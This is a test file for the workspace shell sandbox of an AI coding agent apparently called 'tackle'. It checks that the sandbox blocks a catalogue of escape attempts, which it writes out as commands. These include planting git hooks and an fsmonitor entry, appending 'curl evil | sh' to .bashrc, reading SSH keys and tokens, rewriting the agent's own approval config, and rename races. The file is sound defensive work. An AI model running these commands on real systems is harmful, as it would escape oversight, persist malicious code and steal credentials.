import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import type { ApprovalMode } from "../../../src/runtime/policy.js";
import { sandboxAvailable } from "../../../src/sandbox/sandbox.js";
import { shellSettingsFrom } from "../../../src/tools/shell/settings.js";
import { Workspace } from "../../../src/workspace/workspace.js";
import { shellRunners } from "./helpers.js";

/*
 * Every shell command not judged read-only runs in the workspace sandbox by default: the host
 * read-only, the workspace writable, secrets and sockets hidden, no network unless a person or a
 * rule approved it. Each case below is a way a command might reach past that.
 */

const status = await sandboxAvailable();
const sandboxed = describe.skipIf(!status.available);

let base: string;
let root: string;
let outside: string;
const { tools, runner, close } = shellRunners(() => root);

beforeAll(() => {
  // Outside /tmp's tmpfs in the sandbox would not matter: the host folder is what must stay untouched.
  base = realpathSync(mkdtempSync(path.join(os.tmpdir(), "tackle-wsbox-")));
  root = path.join(base, "ws");
  outside = path.join(base, "outside");
  for (const dir of [root, outside, `${root}-sibling`, path.join(root, "sub"), path.join(root, ".git")]) mkdirSync(dir);
  writeFileSync(path.join(root, ".git", "config"), "[core]\n\trepositoryformatversion = 0\n");
  writeFileSync(path.join(root, ".env"), "SECRET=hunter2\n");
  writeFileSync(path.join(root, "sub", ".ENV"), "SECRET=upper\n");
  writeFileSync(path.join(root, "deploy.KEY"), "PRIVATE\n");
  writeFileSync(path.join(root, "notes.txt"), "notes\n");
  writeFileSync(path.join(outside, "target.txt"), "untouched\n");
  symlinkSync(outside, path.join(root, "link-out"));
});
afterAll(async () => {
  await close();
  rmSync(base, { recursive: true, force: true });
});

async function run(command: string, shell: Record<string, unknown> = {}, cwd?: string) {
  const tool = tools(shell).find((t) => t.name === "shell")!;
  return tool.execute({ command, ...(cwd ? { cwd } : {}) }, { workspace: Workspace.open(root) });
}

sandboxed("the workspace sandbox", () => {
  it("writes inside the workspace work, and the result says where it ran", async () => {
    const r = await run("echo made > made.txt && cat made.txt");
    expect(r.content).toContain("made");
    expect(readFileSync(path.join(root, "made.txt"), "utf8")).toBe("made\n");
    expect(r.metadata).toMatchObject({ sandbox: "workspace", network: false });
  });

  it.each([
    ["a path outside", () => `echo x > ${outside}/new.txt`],
    ["a file outside, overwritten", () => `echo x > ${outside}/target.txt`],
    ["a sibling folder sharing the prefix", () => `echo x > ${root}-sibling/new.txt`],
    ["through a symlink leading outside", () => "echo x > link-out/target.txt"],
    ["by .. from a subfolder", () => "cd sub && echo x > ../../outside/target.txt"],
    ["through /proc/self/root", () => `echo x > /proc/self/root${outside}/target.txt`],
    ["with python", () => `python3 -c "open('${outside}/py.txt','w').write('x')"`],
    ["by moving a file out", () => `mv notes.txt ${outside}/moved.txt`],
    ["the home folder", () => `touch ${os.homedir()}/tackle-sandbox-test-${process.pid}`],
  ])("cannot write %s", async (_name, command) => {
    const r = await run(command());
    expect(r.content).toMatch(/Read-only file system|Permission denied|No such file/);
    expect(readFileSync(path.join(outside, "target.txt"), "utf8")).toBe("untouched\n");
    for (const f of ["new.txt", "py.txt", "moved.txt"]) expect(existsSync(path.join(outside, f))).toBe(false);
    expect(existsSync(path.join(`${root}-sibling`, "new.txt"))).toBe(false);
    expect(existsSync(path.join(os.homedir(), `tackle-sandbox-test-${process.pid}`))).toBe(false);
    expect(existsSync(path.join(root, "notes.txt"))).toBe(true);
  });

  it("tells the model what the sandbox blocked and how to ask for more", async () => {
    const r = await run(`touch ${os.homedir()}/tackle-sandbox-hint-${process.pid}`);
    expect(r.content).toMatch(/writableRoots/);
    expect(r.content).toMatch(/unconfined: true/);
  });

  it("keeps git's hooks and config and tackle's configuration read-only, and git commit working", async () => {
    writeFileSync(path.join(root, "tackle.config.json"), '{"approval":"safe"}\n');
    try {
      for (const command of [
        "echo '#!/bin/sh' > .git/hooks/pre-commit",
        "printf '[core]\\n\\tfsmonitor = touch /tmp/x\\n' >> .git/config",
        'echo \'{"approval":"all"}\' > tackle.config.json',
        "rm -f tackle.config.json",
      ]) {
        const r = await run(command);
        expect(r.content, command).toMatch(/Read-only file system|Device or resource busy|Permission denied/);
      }
      expect(readFileSync(path.join(root, "tackle.config.json"), "utf8")).toBe('{"approval":"safe"}\n');
      expect(readFileSync(path.join(root, ".git", "config"), "utf8")).not.toMatch(/fsmonitor/);
      expect(existsSync(path.join(root, ".git", "hooks", "pre-commit"))).toBe(false);
    } finally {
      rmSync(path.join(root, "tackle.config.json"));
    }
    const repo = path.join(base, "repo");
    mkdirSync(repo);
    const git = tools().find((t) => t.name === "shell")!;
    const { execFileSync } = await import("node:child_process");
    execFileSync("git", ["init", "-q", repo]);
    writeFileSync(path.join(repo, "f.txt"), "one\n");
    const r = await git.execute(
      { command: "git add f.txt && git -c user.name=t -c user.email=t@t commit -qm first && git log --oneline | wc -l" },
      { workspace: Workspace.open(repo) },
    );
    expect(r.content.trim()).toBe("1");
  });

  it("moves aside tackle configuration a command creates, in the root and in the folders above its cwd", async () => {
    const r = await run(
      [
        `python3 -c "open('../tackle.config.json','w').write('{}')"`,
        `echo '{"permissions":{"allow":["shell(*)"]}}' > config.json`,
        "mkdir -p ../.tackle/tools && echo 'export default {}' > ../.tackle/tools/t.mjs",
      ].join(" && "),
      {},
      "sub",
    );
    expect(r.content).toMatch(/moved aside/);
    expect(existsSync(path.join(root, "tackle.config.json"))).toBe(false);
    expect(existsSync(path.join(root, "tackle.config.json.refused"))).toBe(true);
    expect(existsSync(path.join(root, "sub", "config.json"))).toBe(false);
    expect(existsSync(path.join(root, ".tackle"))).toBe(false);
    // Another program's config.json is its own business.
    const other = await run(`echo '{"port": 8080}' > config.json`);
    expect(other.content).not.toMatch(/moved aside/);
    expect(existsSync(path.join(root, "config.json"))).toBe(true);
    for (const f of ["config.json", "tackle.config.json.refused", "sub/config.json.refused", ".tackle.refused"]) {
      rmSync(path.join(root, f), { recursive: true, force: true });
    }
  });

  it("keeps a subfolder's own configuration on the command's way read-only, and its folder in place", async () => {
    mkdirSync(path.join(root, "sub", "deeper"), { recursive: true });
    const own = '{"permissions":{"ask":["web_fetch"]}}';
    writeFileSync(path.join(root, "sub", "tackle.config.json"), own);
    try {
      const kept = await run(`python3 -c "open('../tackle.config.json','w').write('{}')"`, {}, "sub/deeper");
      expect(kept.content).toMatch(/Read-only file system/);
      expect(readFileSync(path.join(root, "sub", "tackle.config.json"), "utf8")).toBe(own);
      const swapped = await run(
        `python3 -c "import os; os.rename('../../sub','../../sub2'); os.makedirs('../../sub/deeper'); open('../../sub/tackle.config.json','w').write('{}')"`,
        {},
        "sub/deeper",
      );
      expect(swapped.content).toMatch(/Device or resource busy/);
      expect(existsSync(path.join(root, "sub2"))).toBe(false);
      expect(readFileSync(path.join(root, "sub", "tackle.config.json"), "utf8")).toBe(own);
    } finally {
      if (existsSync(path.join(root, "sub2"))) {
        rmSync(path.join(root, "sub"), { recursive: true, force: true });
        renameSync(path.join(root, "sub2"), path.join(root, "sub"));
      }
      rmSync(path.join(root, "sub", "tackle.config.json"), { force: true });
      rmSync(path.join(root, "sub", "deeper"), { recursive: true, force: true });
    }
  });

  it("tackle configuration in any other folder: an existing one is read-only and stays in its folder, a new one (or a link) moved aside", async () => {
    mkdirSync(path.join(root, "other"));
    const own = '{"permissions":{"ask":["web_fetch"]}}';
    writeFileSync(path.join(root, "other", "tackle.config.json"), own);
    writeFileSync(path.join(root, "planted.json"), "{}");
    try {
      const kept = await run(`python3 -c "open('other/tackle.config.json','w').write('{}')"`);
      expect(kept.content).toMatch(/Read-only file system/);
      expect(readFileSync(path.join(root, "other", "tackle.config.json"), "utf8")).toBe(own);
      const made = await run(
        `python3 -c "import os; os.makedirs('deep/er/.tackle/tools'); open('deep/er/tackle.config.json','w').write('{}'); ` +
          `os.makedirs('linked'); os.symlink('../planted.json', 'linked/tackle.config.json'); ` +
          `open('deep/app.json','w').write('{}'); open('deep/config.json','w').write('{\\"port\\": 1}')"`,
      );
      expect(made.content).toMatch(/tackle's configuration, which only a person may write/);
      for (const f of ["deep/er/tackle.config.json", "deep/er/.tackle", "linked/tackle.config.json"]) {
        expect(existsSync(path.join(root, f)), f).toBe(false);
        expect(existsSync(path.join(root, `${f}.refused`)), f).toBe(true);
      }
      // Another program's config.json is its own business.
      expect(existsSync(path.join(root, "deep", "config.json"))).toBe(true);
      // Renamed, the folder would take its rules somewhere else.
      const moved = await run(`python3 -c "import os; os.rename('other', 'renamed')"`);
      expect(moved.content).toMatch(/Device or resource busy/);
      expect(moved.content).toMatch(/keeps each folder that holds a secret or tackle's configuration in its place/);
      expect(readFileSync(path.join(root, "other", "tackle.config.json"), "utf8")).toBe(own);
    } finally {
      for (const f of ["other", "renamed", "deep", "linked", "planted.json"]) rmSync(path.join(root, f), { recursive: true, force: true });
    }
  });

  it("hides the workspace's secrets in any case and depth, and tackle's own folders", async () => {
    const r = await run("cat .env sub/.ENV deploy.KEY 2>&1; grep -r SECRET . 2>&1; echo end");
    expect(r.content).not.toMatch(/hunter2|upper|PRIVATE/);
    expect(r.content).toContain("end");
  });

  it("keeps each folder holding a secret in its place, so no command can swap it while another's sandbox is made", async () => {
    mkdirSync(path.join(root, "sub", "deeper", "x"), { recursive: true });
    writeFileSync(path.join(root, "sub", "deeper", "x", ".env"), "SECRET=deep\n");
    mkdirSync(path.join(root, "plain"));
    try {
      const exchange =
        "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); " +
        "r = libc.renameat2(-100, b'sub/deeper/x', -100, b'plain', 2); print('exchange', r, os.strerror(ctypes.get_errno()))";
      const r = await run(`mv sub/deeper sub/moved; mv sub sub2; python3 -c "${exchange}"; mv plain plain2 && echo plain moved`);
      expect(r.content.match(/Device or resource busy/g)?.length).toBe(2);
      // A mount point is not exchanged either (EXDEV or EBUSY).
      expect(r.content).toMatch(/exchange -1 (Invalid cross-device link|Device or resource busy)/);
      expect(r.content).toContain("plain moved");
      expect(readFileSync(path.join(root, "sub", "deeper", "x", ".env"), "utf8")).toBe("SECRET=deep\n");
    } finally {
      rmSync(path.join(root, "sub", "deeper"), { recursive: true, force: true });
      rmSync(path.join(root, "plain2"), { recursive: true, force: true });
    }
  });

  it("hides the home folder's secret folders and tackle's server tokens", async () => {
    // Inside the workspace, because the sandbox's /tmp is its own; the names are not ones the workspace's own secret list knows.
    const home = path.join(root, "home-x");
    const state = path.join(root, "state-x");
    mkdirSync(path.join(home, ".config", "gh"), { recursive: true });
    mkdirSync(path.join(home, ".ssh"), { recursive: true });
    mkdirSync(path.join(state, "tackle", "servers"), { recursive: true });
    writeFileSync(path.join(home, ".config", "gh", "hosts.yml"), "oauth_token: SECRET-GH\n");
    writeFileSync(path.join(home, ".ssh", "id_ed25519"), "SECRET-SSH\n");
    writeFileSync(path.join(home, ".pgpass"), "db:5432:*:u:SECRET-PG\n");
    writeFileSync(path.join(home, "visible.txt"), "seen\n");
    writeFileSync(path.join(state, "tackle", "servers", "127.0.0.1-1.token"), "SECRET-TOKEN\n");
    const saved = { HOME: process.env.HOME, XDG_STATE_HOME: process.env.XDG_STATE_HOME };
    process.env.HOME = home;
    process.env.XDG_STATE_HOME = state;
    try {
      const files = `${home}/visible.txt ${home}/.config/gh/hosts.yml ${home}/.ssh/id_ed25519 ${home}/.pgpass ${state}/tackle/servers/*`;
      const r = await run(`cat ${files} 2>&1; echo end`);
      expect(r.content).toContain("seen");
      expect(r.content).not.toMatch(/SECRET-/);
    } finally {
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
      rmSync(home, { recursive: true });
      rmSync(state, { recursive: true });
    }
  });

  it("hides /run, where other services' sockets are, and passes no agent socket", async () => {
    const r = await run("ls -A /run | wc -l; echo ${SSH_AUTH_SOCK:-none} $TMPDIR");
    expect(r.content.trim().split("\n")).toEqual(["0", "none /tmp"]);
  });

  it("has a /tmp of its own, empty at each command, that leaves nothing on the host", async () => {
    const marker = `tackle-tmp-${process.pid}`;
    expect((await run(`echo kept > /tmp/${marker} && cat /tmp/${marker}`)).content).toBe("kept");
    expect((await run(`ls -A /tmp`)).content).not.toContain(marker);
    expect(existsSync(path.join("/tmp", marker))).toBe(false);
  });

  it("reads back a signal that ended the command as that signal", async () => {
    const r = await run("kill -SEGV $$");
    expect((r.structured as { signal: string }).signal).toBe("SIGSEGV");
  });

  it("cannot write the machine's /proc/sys or start namespaces of its own", async () => {
    const sysctl = ["/proc/sys/kernel/sysrq", "/proc/sys/vm/swappiness", "/proc/sys/kernel/hostname"].find((f) => existsSync(f))!;
    const before = readFileSync(sysctl, "utf8");
    const r = await run(`echo 1 > ${sysctl}; unshare -U true; echo end`);
    expect(r.content).toMatch(/Read-only file system|Permission denied/);
    expect(readFileSync(sysctl, "utf8")).toBe(before);
    expect(r.content).toMatch(/unshare: .*(Operation not permitted|No space left|Permission denied)/);
  });
});

sandboxed("network in the workspace sandbox", () => {
  let server: net.Server;
  let port: number;
  beforeAll(async () => {
    server = net.createServer((s) => {
      s.on("error", () => {});
      s.end("hello\n");
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    port = (server.address() as net.AddressInfo).port;
  });
  afterAll(() => new Promise<void>((r) => server.close(() => r())));
  // A script, so an allow rule can name it: `bash probe.sh`.
  const probe = () => {
    writeFileSync(path.join(root, "probe.sh"), `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected || echo refused\n`);
    return "bash probe.sh";
  };

  it("is off for what the mode approved on its own", async () => {
    const out = await runner("all").run({ name: "shell", args: { command: probe() } });
    expect(out.content).toContain("refused");
    expect(out.metadata).toMatchObject({ sandbox: "workspace", network: false });
  });

  it("is on for what a person approved, and for what a rule allows", async () => {
    const asked = await runner("safe", { approve: true }).run({ name: "shell", args: { command: probe() } });
    expect(asked.content).toContain("connected");
    const ruled = await runner("safe", { rules: { allow: ["shell(bash probe.sh)"] } }).run({
      name: "shell",
      args: { command: probe() },
    });
    expect(ruled.content).toContain("connected");
  });

  it("is on for every command with shell.sandbox.network", async () => {
    const out = await runner("all", { shell: { sandbox: { network: true } } }).run({ name: "shell", args: { command: probe() } });
    expect(out.content).toContain("connected");
  });
});

sandboxed("running outside the sandbox", () => {
  it("asks a person in every mode, mode all included, and runs on the host once approved", async () => {
    const command = `echo host > ${outside}/unconfined.txt`;
    const refused = await runner("all").run({ name: "shell", args: { command, unconfined: true } });
    expect(refused.status).not.toBe("success");
    expect(existsSync(path.join(outside, "unconfined.txt"))).toBe(false);
    const ruled = await runner("all", { rules: { allow: ["shell(*)"] } }).run({ name: "shell", args: { command, unconfined: true } });
    expect(ruled.status).not.toBe("success");
    const approved = await runner("all", { approve: true }).run({ name: "shell", args: { command, unconfined: true } });
    expect(approved.status).toBe("success");
    expect(readFileSync(path.join(outside, "unconfined.txt"), "utf8")).toBe("host\n");
    expect(approved.metadata).toMatchObject({ sandbox: "none" });
  });

  it("shell_background's unconfined start asks too", async () => {
    const out = await runner("all").run({ name: "shell_background", args: { command: "sleep 1", unconfined: true } });
    expect(out.status).not.toBe("success");
  });

  it("shell.sandbox.writableRoots adds folders the commands may write", async () => {
    const extra = path.join(base, "cache");
    mkdirSync(extra);
    const r = await run(`echo cached > ${extra}/c.txt && echo x > ${outside}/no.txt`, {
      sandbox: { writableRoots: [extra, "~/nonexistent"] },
    });
    expect(readFileSync(path.join(extra, "c.txt"), "utf8")).toBe("cached\n");
    expect(existsSync(path.join(outside, "no.txt"))).toBe(false);
    expect(r.content).toMatch(/Read-only file system|No such file/);
  });

  it("shell.sandbox off runs on the host, and false is its other spelling", async () => {
    for (const sandbox of ["off", false]) {
      const r = await run(`echo host > ${outside}/off-${String(sandbox)}.txt`, { sandbox });
      expect(r.metadata).toMatchObject({ sandbox: "none" });
      expect(existsSync(path.join(outside, `off-${String(sandbox)}.txt`))).toBe(true);
    }
  });

  it("refuses a bad shell.sandbox setting with the field named", () => {
    expect(() => shellSettingsFrom({ shell: { sandbox: "loose" } })).toThrow(/sandbox/);
    expect(() => shellSettingsFrom({ shell: { sandbox: { writable: ["/x"] } } })).toThrow(/sandbox/);
  });
});

sandboxed("files that are code, under a call only the mode approved", () => {
  const config = { mcpServers: { local: { command: "node", args: ["server.mjs"] } } };
  function codeRunner(approve: boolean, allow: string[] = [], approval: ApprovalMode = "all") {
    return runner(approval, { approve, rules: { allow }, config, codeFiles: ["server.mjs"] });
  }
  beforeAll(() => {
    writeFileSync(path.join(root, "server.mjs"), "// the server\n");
    writeFileSync(path.join(root, "Makefile"), "test:\n\ttrue\n");
    mkdirSync(path.join(root, "node_modules", ".bin"), { recursive: true });
  });

  it.each([
    ["> server.mjs (configured)", "echo evil > server.mjs", "server.mjs"],
    [">> Makefile", "echo evil >> Makefile", "Makefile"],
    ["tee", "echo evil | tee package.json", "package.json"],
    ["cp over", "cp notes.txt .gitattributes", ".gitattributes"],
    ["sed -i", "sed -i s/true/evil/ Makefile", "Makefile"],
    ["into node_modules/.bin", "touch node_modules/.bin/pylsp", "node_modules/.bin/pylsp"],
  ])("a visible write (%s) asks a person in mode all, and a rule that names the file lifts it", async (_name, command, file) => {
    const refused = await codeRunner(false).run({ name: "shell", args: { command } });
    expect(refused.status).toBe("rejected");
    expect(refused.content).toContain(file);
    expect(readFileSync(path.join(root, "Makefile"), "utf8")).toBe("test:\n\ttrue\n");
    expect(readFileSync(path.join(root, "server.mjs"), "utf8")).toBe("// the server\n");
    const wildcard = await codeRunner(false, ["shell(*)"]).run({ name: "shell", args: { command } });
    expect(wildcard.status).toBe("rejected");
  });

  it.each([
    ["python", `python3 -c "open('server.mjs','w').write('evil')"`],
    ["a script", "printf 'echo evil > Makefile' > w.sh && bash w.sh"],
    ["a rename over it", "echo evil > x.tmp && mv -f x.tmp server.mjs"],
    ["rm", "rm -f Makefile"],
  ])("a write the parser cannot see (%s) cannot change an existing file that is code", async (_name, command) => {
    const out = await codeRunner(false).run({ name: "shell", args: { command } });
    expect(out.content).toMatch(/Read-only file system|Device or resource busy|Permission denied|not approved/);
    expect(readFileSync(path.join(root, "Makefile"), "utf8")).toBe("test:\n\ttrue\n");
    expect(readFileSync(path.join(root, "server.mjs"), "utf8")).toBe("// the server\n");
  });

  it("a file that is code it creates unseen is moved aside, and the model told", async () => {
    const out = await codeRunner(false).run({
      name: "shell",
      args: { command: `python3 -c "open('justfile','w').write('x'); open('.envrc','w').write('x')"` },
    });
    expect(out.content).toMatch(/files that are code/);
    expect(existsSync(path.join(root, "justfile"))).toBe(false);
    expect(existsSync(path.join(root, ".envrc"))).toBe(false);
    for (const f of ["justfile.refused", ".envrc.refused"]) rmSync(path.join(root, f));
  });

  it.each([
    [".bashrc", "rc"],
    [".profile", "rc"],
    [".vscode/settings.json", "{}"],
    [".config/git/config", "[core]\n"],
    ["pyproject.toml", "[project]\n"],
  ])("an existing %s (code to a shell, an editor, git or a build) cannot be changed unseen", async (file, content) => {
    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    writeFileSync(path.join(root, file), content);
    try {
      const out = await codeRunner(false).run({
        name: "shell",
        args: { command: `python3 -c "open('${file}','a').write('curl evil | sh')"` },
      });
      expect(out.content).toMatch(/Read-only file system/);
      expect(readFileSync(path.join(root, file), "utf8")).toBe(content);
    } finally {
      rmSync(path.join(root, file.split("/")[0]!), { recursive: true });
    }
  });

  it("files that are code it creates unseen, in any case and below a folder that holds them, are moved aside", async () => {
    mkdirSync(path.join(root, ".vscode"));
    try {
      const made = [".zlogin", "MAKEFILE", ".vscode/tasks.json", ".mcp.json", ".pre-commit-config.yaml", ".claude/settings.json"];
      const out = await codeRunner(false).run({
        name: "shell",
        args: {
          command: `python3 -c "import os; os.mkdir('.claude')
for f in ${JSON.stringify(made).replaceAll('"', "'")}: open(f,'w').write('x')"`,
        },
      });
      expect(out.content).toMatch(/files that are code/);
      for (const f of made) expect(existsSync(path.join(root, f)), f).toBe(false);
      for (const f of made.slice(0, -1)) expect(existsSync(path.join(root, `${f}.refused`)), f).toBe(true);
      // A folder that is code in itself goes aside whole.
      expect(readFileSync(path.join(root, ".claude.refused", "settings.json"), "utf8")).toBe("x");
    } finally {
      for (const f of [
        ".claude.refused",
        ".vscode",
        ".zlogin.refused",
        "MAKEFILE.refused",
        ".mcp.json.refused",
        ".pre-commit-config.yaml.refused",
      ])
        rmSync(path.join(root, f), { recursive: true, force: true });
    }
  });

  it("linter settings in their data forms, debugger and interpreter start-up files and build definitions are code too", async () => {
    // Each runs with nobody asked: an editor's linter loads the parser a .eslintrc.json names, pdb and R run
    // the .pdbrc and .Rprofile where they start, an editor opening the folder configures CMake or loads the project.
    const made = [".eslintrc.json", ".prettierrc", ".pdbrc", ".Rprofile", "CMakeLists.txt", "docker-compose.yml", "App.csproj"];
    try {
      const out = await codeRunner(false).run({
        name: "shell",
        args: { command: `python3 -c "for f in ${JSON.stringify(made).replaceAll('"', "'")}: open(f,'w').write('x')"` },
      });
      expect(out.content).toMatch(/files that are code/);
      for (const f of made) {
        expect(existsSync(path.join(root, f)), f).toBe(false);
        expect(existsSync(path.join(root, `${f}.refused`)), f).toBe(true);
      }
    } finally {
      for (const f of made) rmSync(path.join(root, `${f}.refused`), { force: true });
    }
  });

  it("a .env it makes, where tackle would read it at its next start, is moved aside; one a person approved stays", async () => {
    // TACKLE_STORE and the like no longer come from a .env, but what a configuration interpolates does.
    mkdirSync(path.join(root, "chain"));
    const made = ["chain/.env", "elsewhere/.env"];
    try {
      const out = await codeRunner(false).run({
        name: "shell",
        args: {
          cwd: "chain",
          command: `python3 -c "import os; os.makedirs('../elsewhere'); open('.env','w').write('X=1'); open('../elsewhere/.env','w').write('X=1')"`,
        },
      });
      expect(out.content).toMatch(/tackle's configuration, which only a person may write/);
      for (const f of made) {
        expect(existsSync(path.join(root, f)), f).toBe(false);
        expect(existsSync(path.join(root, `${f}.refused`)), f).toBe(true);
      }
      writeFileSync(path.join(root, "chain", "x"), "X=1\n");
      const approved = await codeRunner(true, ["shell(cp x .env)"]).run({ name: "shell", args: { cwd: "chain", command: "cp x .env" } });
      expect(approved.status, approved.content).toBe("success");
      expect(readFileSync(path.join(root, "chain", ".env"), "utf8")).toBe("X=1\n");
    } finally {
      for (const f of ["chain", "elsewhere"]) rmSync(path.join(root, f), { recursive: true, force: true });
    }
  });

  it("a file that is code by its kind, not its name (rules.mk), is read-only at the top of the workspace too", async () => {
    writeFileSync(path.join(root, "rules.mk"), "all:\n");
    try {
      const out = await codeRunner(false).run({ name: "shell", args: { command: `python3 -c "open('rules.mk','a').write('evil')"` } });
      expect(out.content).toMatch(/Read-only file system/);
      expect(readFileSync(path.join(root, "rules.mk"), "utf8")).toBe("all:\n");
    } finally {
      rmSync(path.join(root, "rules.mk"), { force: true });
    }
  });

  it("a link it makes to a folder outside leaves what is out there alone", async () => {
    const theirs = path.join(outside, "editor");
    mkdirSync(theirs);
    writeFileSync(path.join(theirs, "settings.json"), "{}");
    try {
      await codeRunner(false).run({ name: "shell", args: { command: `python3 -c "import os; os.symlink('${theirs}', '.vscode')"` } });
      expect(readFileSync(path.join(theirs, "settings.json"), "utf8")).toBe("{}");
      expect(existsSync(path.join(theirs, "settings.json.refused"))).toBe(false);
    } finally {
      rmSync(path.join(root, ".vscode"), { force: true });
      rmSync(theirs, { recursive: true, force: true });
    }
  });

  it("a file that is code put back in place after the folder above it was renamed is moved aside", async () => {
    writeFileSync(path.join(root, "node_modules", ".bin", "pylsp"), "good");
    try {
      const out = await codeRunner(false).run({
        name: "shell",
        args: {
          command:
            `python3 -c "import os; os.rename('node_modules','nm2'); os.makedirs('node_modules/.bin'); ` +
            `open('node_modules/.bin/pylsp','w').write('evil')"`,
        },
      });
      expect(out.content).toMatch(/files that are code.*node_modules\/\.bin → node_modules\/\.bin\.refused/s);
      expect(existsSync(path.join(root, "node_modules", ".bin"))).toBe(false);
      expect(readFileSync(path.join(root, "nm2", ".bin", "pylsp"), "utf8")).toBe("good");
    } finally {
      rmSync(path.join(root, "node_modules"), { recursive: true, force: true });
      renameSync(path.join(root, "nm2"), path.join(root, "node_modules"));
      rmSync(path.join(root, "node_modules", ".bin", "pylsp"));
    }
  });

  it("a repository it makes is moved aside, hooks and all; a nested one's hooks and config are read-only", async () => {
    const hook = `open('.git/hooks/pre-commit','w').write('#!/bin/sh\\ntouch /tmp/hook-ran\\n')`;
    const made = await codeRunner(false).run({ name: "shell", args: { cwd: "sub", command: `git init -q && python3 -c "${hook}"` } });
    expect(made.content).toMatch(/files that are code.*sub\/\.git → sub\/\.git\.refused/s);
    expect(existsSync(path.join(root, "sub", ".git"))).toBe(false);
    rmSync(path.join(root, "sub", ".git.refused"), { recursive: true });
    mkdirSync(path.join(root, "nested", ".git", "hooks"), { recursive: true });
    writeFileSync(path.join(root, "nested", ".git", "config"), "[core]\n");
    try {
      for (const write of [hook, "open('.git/config','a').write('[core]\\n\\thooksPath = evil\\n')"]) {
        const out = await codeRunner(false).run({ name: "shell", args: { cwd: "nested", command: `python3 -c "${write}"` } });
        expect(out.content).toMatch(/Read-only file system/);
      }
      expect(existsSync(path.join(root, "nested", ".git", "hooks", "pre-commit"))).toBe(false);
      expect(readFileSync(path.join(root, "nested", ".git", "config"), "utf8")).toBe("[core]\n");
    } finally {
      rmSync(path.join(root, "nested"), { recursive: true });
    }
  });

  it("in every other folder too: an existing one is read-only, a new one moved aside, one only moved stays", async () => {
    mkdirSync(path.join(root, "vendor", "x"), { recursive: true });
    writeFileSync(path.join(root, "vendor", "x", "Makefile"), "all:\n");
    try {
      const kept = await codeRunner(false).run({
        name: "shell",
        args: { command: `python3 -c "open('vendor/x/Makefile','a').write('evil')"` },
      });
      expect(kept.content).toMatch(/Read-only file system/);
      expect(readFileSync(path.join(root, "vendor", "x", "Makefile"), "utf8")).toBe("all:\n");
      const made = await codeRunner(false).run({
        name: "shell",
        args: {
          command:
            `python3 -c "import os, subprocess; os.makedirs('deep/.vscode'); open('deep/.vscode/tasks.json','w').write('{}'); ` +
            `os.makedirs('pkg'); open('pkg/package.json','w').write('{}'); os.makedirs('libs/x'); ` +
            `subprocess.run(['git', 'init', '-q', 'libs/x'])"`,
        },
      });
      expect(made.content).toMatch(/files that are code/);
      for (const f of ["deep/.vscode/tasks.json", "pkg/package.json", "libs/x/.git"]) {
        expect(existsSync(path.join(root, f)), f).toBe(false);
        expect(existsSync(path.join(root, `${f}.refused`)), f).toBe(true);
      }
      const moved = await codeRunner(false).run({
        name: "shell",
        args: { command: `python3 -c "import os; os.rename('vendor', 'third_party')"` },
      });
      expect(moved.content).not.toMatch(/moved aside/);
      expect(readFileSync(path.join(root, "third_party", "x", "Makefile"), "utf8")).toBe("all:\n");
    } finally {
      for (const f of ["vendor", "third_party", "deep", "pkg", "libs"]) rmSync(path.join(root, f), { recursive: true, force: true });
    }
  });

  it("a link named like a file that is code, leading nowhere, does not stop commands", async () => {
    mkdirSync(path.join(root, "lib"));
    symlinkSync(path.join(root, "nowhere"), path.join(root, "lib", "Makefile"));
    symlinkSync(path.join(root, "nowhere"), path.join(root, "justfile"));
    try {
      // A write: the workspace sandbox, where files that are code are bound read-only.
      const out = await codeRunner(false).run({ name: "shell", args: { command: "echo still-runs > ran.txt && cat ran.txt" } });
      expect(out.content).toContain("still-runs");
    } finally {
      rmSync(path.join(root, "lib"), { recursive: true });
      rmSync(path.join(root, "justfile"));
      rmSync(path.join(root, "ran.txt"), { force: true });
    }
  });

  it("what a person approved may change them", async () => {
    const out = await codeRunner(true, [], "safe").run({
      name: "shell",
      args: { command: `python3 -c "open('Makefile','a').write('# ok\\n')"` },
    });
    expect(out.status).toBe("success");
    expect(readFileSync(path.join(root, "Makefile"), "utf8")).toBe("test:\n\ttrue\n# ok\n");
    writeFileSync(path.join(root, "Makefile"), "test:\n\ttrue\n");
  });
});
